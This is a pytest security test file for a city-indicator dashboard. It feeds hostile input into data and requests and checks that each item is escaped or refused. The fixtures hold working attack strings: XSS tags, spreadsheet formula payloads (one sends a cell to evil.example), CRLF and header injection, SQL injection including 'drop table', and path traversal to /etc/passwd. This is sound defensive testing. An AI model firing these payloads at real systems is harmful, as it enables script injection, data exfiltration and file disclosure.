"""Every attack of issue 14, tried over HTTP against the app on a real sample-run snapshot whose unit names were
replaced with hostile text (script tags, spreadsheet formulas): each one is refused or neutralised.

Before the fix: the dossier ran script, CSV cells were live formulas, odd ``province``/``year`` values gave 500 or a
hanging response, unknown years an empty 200, ``//evil.example/x`` became an off-site link, unlimited request
sizes, a server path in /healthz and no security headers."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil

import duckdb
import openpyxl
import pytest
from dashboard_http import callback_body, login, page_body, signed_in_client

from dashboards.app import create_app, shell_content
from dashboards.security import FORMULA_TRIGGERS, content_disposition, neutralise_cell, safe_local_path
from pipelines.evaluation.dossier import write_dossier

pytestmark = pytest.mark.slow  # the session builds the sample run once

XSS = '<img src=x onerror="alert(document.domain)">'
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, sample_snapshot):
    """A copy of the sample snapshot where Guangdong's cities carry hostile names, plus a dossier of one of them."""
    base = tmp_path_factory.mktemp("hostile")
    snap = base / "published" / "hostile.snapshot.duckdb"
    snap.parent.mkdir()
    shutil.copy(sample_snapshot.snapshot, snap)
    con = duckdb.connect(str(snap))
    try:
        codes = [
            r[0]
            for r in con.execute(
                "select unit_code from marts.dim_city where province_code = '440000' and level <> 'province' "
                "order by is_programme desc, unit_code"
            ).fetchall()
        ]
        names = {codes[0]: XSS + "市"} | {c: f for c, f in zip(codes[1:], FORMULAS)}
        for code, name in names.items():
            con.execute("update marts.dim_city set unit_name = ? where unit_code = ?", [name, code])
            con.execute("update marts.fct_evaluation_year set unit_name = ? where unit_code = ?", [name, code])
        year = con.execute("select max(year) from marts.fct_city_score_year").fetchall()[0][0]
        con.execute("checkpoint")
    finally:
        con.close()
    dossiers = base / "dossiers"
    write_dossier(snap, codes[0], year, dossiers)
    (base / "outside.html").write_text("<p>outside</p>", encoding="utf-8")
    (dossiers / "secret.txt").write_text("secret", encoding="utf-8")
    return {"snapshot": snap, "dossiers": dossiers, "codes": codes, "names": names, "year": year, "base": base}


@pytest.fixture(scope="module")
def app(hostile):
    return create_app(
        hostile["snapshot"],
        dossier_dir=hostile["dossiers"],
        user_store=hostile["base"] / "access" / "users.sqlite",
        secret_key_file=hostile["base"] / "access" / "secret_key",
        extracts_dir=hostile["base"] / "extracts",
    )


@pytest.fixture(scope="module")
def client(app, hostile):
    return signed_in_client(app, hostile["base"] / "access" / "users.sqlite")


# ---- HTML from data -----------------------------------------------------------------------------------------------
def test_dossier_escapes_html_from_unit_names(client, hostile):
    code, year = hostile["codes"][0], hostile["year"]
    r = client.get(f"/dossiers/{code}_{year}.html")
    assert r.status_code == 200
    page = r.get_data(as_text=True)
    assert "<img" not in page and not re.search(r"<[^>]*onerror", page)
    assert "&lt;img src=x onerror=" in page  # shown as text
    assert (
        "sandbox" in r.headers["Content-Security-Policy"] and "script-src" not in r.headers["Content-Security-Policy"]
    )
    assert r.headers["X-Content-Type-Options"] == "nosniff"


def test_dossier_markdown_links_from_data_are_not_links():
    from pipelines.evaluation.dossier import safe_markdown

    out = safe_markdown("# [x](javascript:alert(1)) <script>alert(1)</script>\n\n<div onclick=x>y</div>")
    assert "<a" not in out and "<script" not in out and "<div" not in out
    assert "&lt;script&gt;" in out


# ---- spreadsheet formulas -----------------------------------------------------------------------------------------
def _cells(csv_bytes: bytes) -> list[str]:
    text = csv_bytes.decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_csv_download_never_starts_a_formula(client, hostile):
    r = client.get(f"/download/extract?year={hostile['year']}&province=440000&fmt=csv")
    assert r.status_code == 200 and r.data.startswith(b"\xef\xbb\xbf")
    cells = _cells(r.data)
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not _is_number(c)]
    for name in FORMULAS:
        assert "'" + name in cells  # kept, readable, inert


def test_xlsx_download_never_starts_a_formula(client, hostile):
    r = client.get(f"/download/extract?year={hostile['year']}&province=440000&fmt=xlsx")
    assert r.status_code == 200
    wb = openpyxl.load_workbook(io.BytesIO(r.data))
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [v for v in values if isinstance(v, str) and v.startswith(FORMULA_TRIGGERS)]
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


def test_neutralise_cell_rules():
    for bad in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
        assert neutralise_cell(bad) == "'" + bad
    assert neutralise_cell("广州市") == "广州市" and neutralise_cell(-1.5) == -1.5


# ---- parameters -----------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "query,status",
    [
        ("year={year}&province=%E5%B9%BF%E4%B8%9C&fmt=csv", 400),  # 广东: non-ASCII (hung the client before)
        ('year={year}&province=44"; filename="evil.exe&fmt=csv', 400),  # header injection
        ("year={year}&province=44%0d%0aSet-Cookie:%20x=1&fmt=csv", 400),  # line break (500 before)
        ("year=2147483648&province=44&fmt=csv", 400),  # int overflow (500 before)
        ("year=20x5&province=44&fmt=csv", 400),
        ("year=&province=44&fmt=csv", 400),
        ("year={year}&province=44&fmt=exe", 400),
        ("year={year}&province=44' or '1'='1&fmt=csv", 400),  # SQL injection
        ("year=1999&province=44&fmt=csv", 404),  # unknown year (empty 200 before)
        ("year={year}&province=990000&fmt=csv", 404),  # unknown province (empty 200 before)
        ("year={year}&province=44&fmt=csv", 200),
        ("year={year}&province=440000&fmt=xlsx", 200),
    ],
)
def test_download_parameters_are_validated(client, hostile, query, status):
    r = client.get("/download/extract?" + query.format(year=hostile["year"]))
    assert r.status_code == status, r.get_data(as_text=True)[:300]
    if status == 400:
        assert r.mimetype == "text/plain" and len(r.get_data(as_text=True).strip()) > 5  # a reason
    if status == 200:
        cd = r.headers["Content-Disposition"]
        assert cd.startswith('attachment; filename="ipcity_indicators_') and "filename*=UTF-8''" in cd


def test_content_disposition_is_rfc6266():
    cd = content_disposition('广东"; filename="x.exe\r\n.csv')
    assert "\r" not in cd and "\n" not in cd
    assert cd.count("filename=") == 1 and cd.count("filename*=") == 1
    assert "filename*=UTF-8''%E5%B9%BF%E4%B8%9C%22%3B" in cd
    cd.encode("latin-1")  # the header is encodable


# ---- redirects ----------------------------------------------------------------------------------------------------
def test_language_links_stay_on_site_for_protocol_relative_paths():
    for evil in ("//evil.example/x", "/\\evil.example", "https://evil.example/", "//evil.example/x?lang=en"):
        _, _, toggles, _ = shell_content(evil, "?lang=zh")
        for link in toggles:
            href = getattr(link, "href", None)
            if href:
                assert href.startswith("/") and not href.startswith("//") and "evil" not in href


def test_login_next_never_leaves_the_site(app, hostile):
    from dashboard_http import add_account

    add_account(hostile["base"] / "access" / "users.sqlite", "redirect_test")
    for target in ("//evil.example/x", "https://evil.example/", "/\\evil.example", "javascript:alert(1)"):
        c = app.server.test_client()
        r = login(c, "redirect_test", next_url=target)
        assert r.status_code == 302 and r.headers["Location"] == "/", target
    assert safe_local_path("/rankings?lang=en") == "/rankings?lang=en"


# ---- request size ---------------------------------------------------------------------------------------------
def test_request_size_limits(client):
    big = json.dumps({"output": "x.y", "outputs": {"id": "x", "property": "y"}, "pad": "a" * (5 * 1024 * 1024)})
    r = client.post("/_dash-update-component", data=big, content_type="application/json")
    assert r.status_code == 413
    assert client.get("/download/extract?year=2025&pad=" + "a" * 10000).status_code == 414
    assert client.get("/rankings?" + "x=" + "a" * 10000).status_code == 414


# ---- no server paths, security headers ---------------------------------------------------------------------------
def test_healthz_shows_no_server_path(app, hostile):
    r = app.server.test_client().get("/healthz")
    body = r.get_data(as_text=True)
    assert r.status_code == 200 and json.loads(body)["available"] is True
    assert "/" not in json.loads(body)["version"] and str(hostile["base"]) not in body and "duckdb" not in body


def test_security_headers_on_pages_and_login(app, client):
    anon = app.server.test_client()
    for c, path in ((anon, "/login"), (client, "/"), (client, "/rankings"), (anon, "/healthz")):
        r = c.get(path)
        assert r.headers["X-Frame-Options"] == "DENY", path
        assert r.headers["X-Content-Type-Options"] == "nosniff", path
        csp = r.headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
        assert "'unsafe-eval'" not in csp and "script-src 'self'" in csp
        assert "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]


def test_debug_tools_off_by_default(client):
    html = client.get("/").get_data(as_text=True)
    config = json.loads(html.split('id="_dash-config" type="application/json">')[1].split("</script>")[0])
    assert config.get("ui") is False and config.get("props_check") is False


# ---- traversal and injection stay refused --------------------------------------------------------------------------
TRAVERSALS = [
    "../outside.html",
    "%2e%2e/outside.html",
    "%2e%2e%2foutside.html",
    "..%2foutside.html",
    "%252e%252e%252foutside.html",
    "....//outside.html",
    "..%5coutside.html",
    "..\\outside.html",
    "%c0%ae%c0%ae/outside.html",
    "secret.txt",
    "/etc/passwd",
    "%2fetc%2fpasswd",
    "..%00.html",
    "440100_2025.html%00.txt",
]


@pytest.mark.parametrize("name", TRAVERSALS)
def test_dossier_path_traversal_is_refused(client, name):
    r = client.get("/dossiers/" + name)
    assert r.status_code in (403, 404), (name, r.status_code)
    body = r.get_data(as_text=True)
    assert "outside" not in body and "secret" not in body and "root:" not in body


def test_sql_injection_through_callbacks_finds_nothing(client, hostile):
    for evil in ("' or 1=1 --", "440100' union select * from marts.dim_city --", "1; drop table marts.dim_city"):
        body = callback_body(
            [("pf-summary", "children"), ("pf-indicators", "figure"), ("pf-targets", "children")],
            [("pf-unit", "value", evil)],
            [("pf-lang", "data", "zh")],
        )
        r = client.post("/_dash-update-component", data=json.dumps(body), content_type="application/json")
        assert r.status_code in (200, 204, 400, 403, 500)
        if r.status_code == 200:
            text = json.dumps(r.get_json(), ensure_ascii=False)
            assert not any(hostile["names"][c] in text for c in hostile["codes"][:1])
    page = client.post(
        "/_dash-update-component",
        data=json.dumps(page_body("/profile", "?unit=' or 1=1 --")),
        content_type="application/json",
    )
    assert page.status_code == 200
    con = duckdb.connect(str(hostile["snapshot"]), read_only=True)
    try:
        assert con.execute("select count(*) from marts.dim_city").fetchall()[0][0] > 300
    finally:
        con.close()


def test_watchlist_markdown_cells_escape_names():
    import polars as pl

    from dashboards.pages.watchlist import watch_rows
    from dashboards.security import markdown_text, plot_text

    evil = "x](javascript:alert(1)) <img src=x onerror=alert(1)>"
    assert "](" not in markdown_text(evil).replace("\\]\\(", "") and "<img" not in markdown_text(evil).replace(
        "\\<", ""
    )
    row = {
        "unit_code": "440100",
        "unit_name": evil,
        "unit_name_en": evil,
        "province_name": "广东省",
        "province_name_en": "Guangdong",
        "stage": "watch",
        "rules_fired": "W1",
        "is_robust": True,
        "share_bottom": 0.5,
        "targets_evaluable": 2,
        "targets_lagging": 1,
        "composite_index": 80.0,
        "rank": 3,
        "n_ranked": 10,
        "p05_rank": 2,
        "p95_rank": 4,
        "dossier_html": None,
        "dossier_md": None,
    }
    [r] = watch_rows(pl.DataFrame([row]), "zh")
    link = r["city_link"]
    assert link.endswith("](/profile?lang=zh&unit=440100)") and "(javascript:" not in link.replace("\\(", "")
    assert plot_text("<a href='x'>") == "&lt;a href='x'&gt;"


# ---- every other spreadsheet the dashboard serves ------------------------------------------------------------------
HOSTILE_TEXT = [*FORMULAS, "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]


def _xlsx_strings(data: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def test_scenario_export_never_starts_a_formula():
    """The simulator's change list: unit names from data and the scenario name the user typed."""
    import polars as pl

    from pipelines import scenarios as sc

    changes = pl.DataFrame(
        [
            {**dict.fromkeys(sc._CHANGE_SCHEMA), "kind": "rank", "unit_code": "440100", "unit_name": t}
            for t in HOSTILE_TEXT
        ],
        schema=sc._CHANGE_SCHEMA,
    )
    for fmt in ("csv", "xlsx"):
        data = sc.export_changes(changes, fmt, name='=HYPERLINK("http://evil.example")')
        cells = _cells(data) if fmt == "csv" else _xlsx_strings(data)
        assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)], (fmt, cells[:20])
        assert "'" + HOSTILE_TEXT[0] in cells and '\'=HYPERLINK("http://evil.example")' in cells


def test_ambition_csv_never_starts_a_formula():
    import polars as pl

    from dashboards.pages.programmes import xlsx_safe_csv

    df = pl.DataFrame({"unit_name": HOSTILE_TEXT, "value": [1.0] * len(HOSTILE_TEXT)})
    cells = _cells(xlsx_safe_csv(df))
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)], cells


def test_neutralise_text_covers_categorical_text():
    import polars as pl

    from dashboards.security import neutralise_text

    df = pl.DataFrame({"name": HOSTILE_TEXT}).with_columns(cat=pl.col("name").cast(pl.Categorical))
    out = neutralise_text(df)
    for col in ("name", "cat"):
        assert all(v.startswith("'") for v in out[col].cast(pl.String).to_list()), col


def test_programme_and_target_markdown_cells_escape_names():
    """The membership grid and the most-lagging grid render their city cell as Markdown, like the watchlist: a
    name from data is escaped, never a link or a tag of its own."""
    import polars as pl

    from dashboards.pages.programmes import membership_rows
    from dashboards.pages.targets import lagging_rows

    evil = "x](javascript:alert(1)) <img src=x onerror=alert(1)>"
    member = {
        "unit_code": "440100",
        "unit_name": evil,
        "province_name": "广东省",
        "programme_name_zh": "强市",
        "cohort": "2022",
        "joined_on": None,
        "left_on": None,
        "exit_reason": None,
        "first_evaluated_year": 2022,
        "last_evaluated_year": 2025,
        "source_note": "",
    }
    [m] = membership_rows(pl.DataFrame([member]), "zh")
    units = pl.DataFrame({"unit_code": ["440100"], "unit_name": [evil], "unit_name_en": [evil]})
    catalog = pl.DataFrame(
        {"indicator_code": ["QLT01"], "name_zh": ["x"], "name_en": ["x"], "unit": ["件"], "direction": ["higher"]}
    )
    target = pl.DataFrame(
        {
            "unit_code": ["440100"],
            "plan_id": ["plan_2021_2025"],
            "indicator_code": ["QLT01"],
            "bucket": ["lagging"],
            "baseline_value": [1.0],
            "target_value": [10.0],
            "current_value": [2.0],
            "progress_index": [0.1],
            "status": ["lagging"],
        }
    )
    [lag] = lagging_rows(target, units, catalog, "zh")
    for link in (m["city_link"], lag["city"]):
        assert link.endswith("](/profile?lang=zh&unit=440100)"), link
        assert "(javascript:" not in link.replace("\\(", "") and "<img" not in link.replace("\\<", ""), link


def test_audit_log_lines_cannot_be_forged_by_a_user_name(caplog):
    """A user name typed at sign-in (or a requested path) is data: a line break in it must not start a line of
    the server log that reads like another event."""
    import logging

    from dashboards import access

    forged = "nobody\naccess ok: user=chief role=national action=page target=/alerts"
    with caplog.at_level(logging.WARNING, logger=access.log.name):
        access.audit(access.Principal(forged, None), "login", "/login\r\nx", "failed", "detail\nmore")
    [record] = [r for r in caplog.records if r.name == access.log.name]
    line = record.getMessage()
    assert "\n" not in line and "\r" not in line, line
    assert "nobody\\naccess ok" in line
